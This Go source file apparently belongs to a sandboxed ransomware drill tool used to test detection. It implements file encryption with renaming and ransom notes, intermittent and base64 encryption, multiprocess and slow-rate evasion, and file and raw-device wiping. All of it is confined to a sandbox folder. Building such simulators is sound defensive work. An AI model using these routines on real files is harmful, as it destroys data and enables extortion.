package drill

import (
	"context"
	"crypto/aes"
	"crypto/cipher"
	"crypto/rand"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"log/slog"
	mrand "math/rand/v2"
	"os"
	"path"
	"strings"
	"time"

	"golang.org/x/sync/errgroup"
)

// The attacks, by the name RunChild and the report use.
const (
	EncryptRename  = "encrypt-rename"
	EncryptInPlace = "encrypt-inplace"
	Intermittent   = "intermittent"
	EncodeBase64   = "encode-base64"
	SlowEncrypt    = "slow-encrypt"
	MultiProcess   = "multiprocess"
	SplitSetsid    = "split-setsid"
	SplitDetached  = "split-detached"
	WipeRandom     = "wipe-random"
	WipeZero       = "wipe-zero"
	WipeTruncate   = "wipe-truncate"
	WipeDelete     = "wipe-delete"
	WipeRaw        = "wipe-raw"
)

// NoteName is the ransom note the encrypting attacks leave in every
// folder they touch.
const NoteName = "HOW_TO_RECOVER_FILES.txt"

// noteText is the ransom note; it says what it is.
const noteText = `YOUR FILES HAVE BEEN ENCRYPTED

All your documents, databases and photos are encrypted with a strong
algorithm. Do not rename them and do not try to restore them yourself.
To get the decryption key, contact us and pay within 72 hours.

---
This note was written by 'kalaja drill', an attack simulation running in a
sandbox folder. Nothing left the machine; the key was never stored.
`

// RawImage is the sandbox file the wipe-raw attack's loop device is
// attached to.
const RawImage = DataDir + "/disk.img"

// intermittentBlock is the size of the blocks the intermittent attack
// alternately encrypts and skips, as LockFile does (16 bytes).
const intermittentBlock = 16

// AttackOptions configure one attack process.
type AttackOptions struct {
	// Interval is the pause between two files (slow-encrypt; 0 for none).
	Interval time.Duration
	// Device is the loop device backed by RawImage (wipe-raw).
	Device string
	// Only restricts the attack to these files, relative to the sandbox
	// root: a multiprocess worker's share. Empty means all of DataDir.
	Only []string
	// Ext is the extension renamed files get; empty picks a random one.
	Ext string
	// Child starts the workers of the multiprocess attack.
	Child Child
	// Logger gets one line per refused path; nil discards.
	Logger *slog.Logger
}

// attacker is the state of one attack process.
type attacker struct {
	sb      *Sandbox
	o       AttackOptions
	block   cipher.Block
	noted   map[string]bool
	refused int
}

// perFile is what an attack does to one file.
type perFile func(a *attacker, rel string) error

// Attack runs the named attack against the files of the sandbox, as fast
// as it can (slow-encrypt: one file per Interval), until done or ctx ends.
// It touches nothing outside the sandbox: every path goes through sb, and
// a path sb refuses is skipped and logged. It returns an error wrapping
// ErrUnsafe after finishing if any path was refused.
func Attack(ctx context.Context, sb *Sandbox, name string, o AttackOptions) error {
	if o.Logger == nil {
		o.Logger = slog.New(slog.DiscardHandler)
	}
	key := make([]byte, 32)
	rand.Read(key)
	block, err := aes.NewCipher(key)
	if err != nil {
		return fmt.Errorf("attack %s: %w", name, err)
	}
	if o.Ext == "" {
		const letters = "abcdefghijklmnopqrstuvwxyz0123456789"
		b := make([]byte, 6)
		for i := range b {
			b[i] = letters[mrand.IntN(len(letters))]
		}
		o.Ext = string(b)
	}
	a := &attacker{sb: sb, o: o, block: block, noted: map[string]bool{}}
	var do perFile
	note, rename := false, false
	switch name {
	case EncryptRename, SlowEncrypt:
		do, note, rename = (*attacker).encrypt, true, true
	case EncryptInPlace:
		do, note = (*attacker).encrypt, true
	case Intermittent:
		do, note = (*attacker).intermittent, true
	case EncodeBase64:
		do, note = (*attacker).base64, true
	case MultiProcess:
		return a.multiProcess(ctx)
	case SplitSetsid, SplitDetached:
		return a.split(ctx, name == SplitDetached)
	case WipeRandom:
		do = (*attacker).overwriteRandom
	case WipeZero:
		do = (*attacker).overwriteZero
	case WipeTruncate:
		do = (*attacker).truncate
	case WipeDelete:
		do = (*attacker).remove
	case WipeRaw:
		return a.wipeDevice(ctx)
	default:
		return fmt.Errorf("unknown attack %q", name)
	}
	files, err := a.targets()
	if err != nil {
		return err
	}
	for i, rel := range files {
		if i > 0 {
			if err := sleep(ctx, o.Interval); err != nil {
				return err
			}
		}
		if err := ctx.Err(); err != nil {
			return err
		}
		if note {
			a.dropNote(path.Dir(rel))
		}
		err := do(a, rel)
		if err == nil && rename {
			err = sb.Rename(rel, rel+"."+o.Ext)
		}
		if err != nil {
			a.skip(rel, err)
		}
	}
	if a.refused > 0 {
		return fmt.Errorf("attack %s: %w: refused %d paths", name, ErrUnsafe, a.refused)
	}
	return nil
}

// targets returns the files to attack: Only, or every file in DataDir
// but ransom notes, already renamed files and the raw disk image.
func (a *attacker) targets() ([]string, error) {
	if len(a.o.Only) > 0 {
		var files []string
		for _, p := range a.o.Only {
			rel, err := a.sb.Rel(p)
			if err != nil {
				a.skip(p, err)
				continue
			}
			files = append(files, rel)
		}
		return files, nil
	}
	all, err := a.sb.Files(DataDir)
	if err != nil {
		return nil, err
	}
	var files []string
	for _, f := range all {
		if path.Base(f) != NoteName && !strings.HasSuffix(f, "."+a.o.Ext) && f != RawImage {
			files = append(files, f)
		}
	}
	return files, nil
}

// skip records a file the attack could not or would not touch.
func (a *attacker) skip(rel string, err error) {
	if errors.Is(err, ErrUnsafe) {
		a.refused++
		a.o.Logger.Warn("refused", "path", rel, "err", err)
		return
	}
	a.o.Logger.Info("skipped", "path", rel, "err", err)
}

// dropNote writes the ransom note into dir once.
func (a *attacker) dropNote(dir string) {
	if a.noted[dir] {
		return
	}
	a.noted[dir] = true
	f, err := a.sb.OpenFile(path.Join(dir, NoteName), os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o644)
	if err != nil {
		return // another worker wrote it, or the folder is gone
	}
	_, err = f.WriteString(noteText)
	if err = errors.Join(err, f.Close()); err != nil {
		a.o.Logger.Info("ransom note not written", "dir", dir, "err", err)
	}
}

// rewrite replaces the content of rel with what change makes of it.
func (a *attacker) rewrite(rel string, change func([]byte) []byte) error {
	f, err := a.sb.OpenFile(rel, os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer func() { _ = f.Close() }() // for the error returns: the success path closes and checks
	data, err := io.ReadAll(f)
	if err != nil {
		return fmt.Errorf("read %s: %w", rel, err)
	}
	out := change(data)
	if _, err := f.WriteAt(out, 0); err != nil {
		return fmt.Errorf("write %s: %w", rel, err)
	}
	if len(out) != len(data) {
		if err := f.Truncate(int64(len(out))); err != nil {
			return fmt.Errorf("truncate %s: %w", rel, err)
		}
	}
	return f.Close()
}

// seal encrypts data with AES-256-CTR under a fresh IV and appends the
// IV and a stand-in for the RSA-wrapped file key, as ransomware does.
func (a *attacker) seal(data []byte) []byte {
	iv := make([]byte, aes.BlockSize)
	rand.Read(iv)
	out := make([]byte, len(data), len(data)+len(iv)+256)
	cipher.NewCTR(a.block, iv).XORKeyStream(out, data)
	wrapped := make([]byte, 256)
	rand.Read(wrapped)
	return append(append(out, iv...), wrapped...)
}

func (a *attacker) encrypt(rel string) error { return a.rewrite(rel, a.seal) }

// intermittent encrypts every other 16-byte block in place.
func (a *attacker) intermittent(rel string) error {
	return a.rewrite(rel, func(data []byte) []byte {
		iv := make([]byte, aes.BlockSize)
		rand.Read(iv)
		ks := make([]byte, len(data))
		cipher.NewCTR(a.block, iv).XORKeyStream(ks, ks)
		for off := 0; off < len(data); off += 2 * intermittentBlock {
			for i := off; i < min(off+intermittentBlock, len(data)); i++ {
				data[i] ^= ks[i]
			}
		}
		return data
	})
}

// base64 replaces the file by its ciphertext in base64, 76 characters a
// line: text to a byte-frequency test, about 6 bits per byte.
func (a *attacker) base64(rel string) error {
	return a.rewrite(rel, func(data []byte) []byte {
		enc := base64.StdEncoding.EncodeToString(a.seal(data))
		var b strings.Builder
		for len(enc) > 76 {
			b.WriteString(enc[:76])
			b.WriteByte('\n')
			enc = enc[76:]
		}
		b.WriteString(enc)
		b.WriteByte('\n')
		return []byte(b.String())
	})
}

func (a *attacker) overwriteRandom(rel string) error {
	return a.rewrite(rel, func(data []byte) []byte {
		rand.Read(data)
		return data
	})
}

func (a *attacker) overwriteZero(rel string) error {
	return a.rewrite(rel, func(data []byte) []byte {
		clear(data)
		return data
	})
}

func (a *attacker) truncate(rel string) error {
	f, err := a.sb.OpenFile(rel, os.O_WRONLY|os.O_TRUNC, 0)
	if err != nil {
		return err
	}
	return f.Close()
}

func (a *attacker) remove(rel string) error { return a.sb.Remove(rel) }

// wipeDevice overwrites the loop device from its first byte with random
// data, one MiB at a time, and flushes it.
func (a *attacker) wipeDevice(ctx context.Context) error {
	if a.o.Device == "" {
		return errors.New("wipe-raw: no device given")
	}
	f, err := a.sb.OpenLoop(a.o.Device, RawImage)
	if err != nil {
		return fmt.Errorf("wipe-raw: %w", err)
	}
	defer func() { _ = f.Close() }() // for the error returns: the success path closes and checks
	size, err := f.Seek(0, io.SeekEnd)
	if err != nil {
		return fmt.Errorf("wipe-raw: %w", err)
	}
	buf := make([]byte, 1<<20)
	for off := int64(0); off < size; off += int64(len(buf)) {
		if err := ctx.Err(); err != nil {
			return err
		}
		rand.Read(buf)
		if _, err := f.WriteAt(buf[:min(int64(len(buf)), size-off)], off); err != nil {
			return fmt.Errorf("wipe-raw: %w", err)
		}
	}
	if err := f.Sync(); err != nil {
		return fmt.Errorf("wipe-raw: %w", err)
	}
	return f.Close()
}

// multiProcess splits the tree over many short worker processes of two
// files each, two running at a time, all encrypting and renaming with the
// same extension.
func (a *attacker) multiProcess(ctx context.Context) error {
	files, err := a.targets()
	if err != nil {
		return err
	}
	g, ctx := errgroup.WithContext(ctx)
	g.SetLimit(2)
	for i := 0; i < len(files); i += 2 {
		args := []string{"attack", "--ext", a.o.Ext}
		for _, f := range files[i:min(i+2, len(files))] {
			args = append(args, "--only", f)
		}
		args = append(args, EncryptRename, a.sb.Root())
		g.Go(func() error {
			cmd := a.o.Child.Command(ctx, args...)
			if out, err := cmd.CombinedOutput(); err != nil {
				return fmt.Errorf("worker: %w: %s", err, out)
			}
			return nil
		})
	}
	return g.Wait()
}
